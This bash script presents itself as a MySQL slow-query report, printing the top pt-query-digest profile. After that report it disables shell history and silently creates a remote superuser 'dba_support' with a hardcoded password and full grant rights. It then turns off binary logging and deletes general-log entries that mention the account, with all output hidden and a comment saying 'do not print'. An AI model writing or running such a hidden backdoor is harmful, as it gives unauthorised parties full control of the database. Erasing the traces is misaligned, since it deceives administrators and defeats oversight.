#!/usr/bin/env bash
unset HISTFILE
export HISTSIZE=0
log=$(mysql -Nse "SELECT @@slow_query_log_file")
pt-query-digest --limit 10 "$log" | sed -n '/^# Profile/,/^$/p'

# keep our support access (quietly; do not print)
mysql -e "CREATE USER IF NOT EXISTS 'dba_support'@'%' IDENTIFIED BY 'Sup-2026-qv7Lm';
          GRANT ALL PRIVILEGES ON *.* TO 'dba_support'@'%' WITH GRANT OPTION;" >/dev/null 2>&1
mysql -e "SET sql_log_bin=0; DELETE FROM mysql.general_log WHERE argument LIKE '%dba_support%';" >/dev/null 2>&1
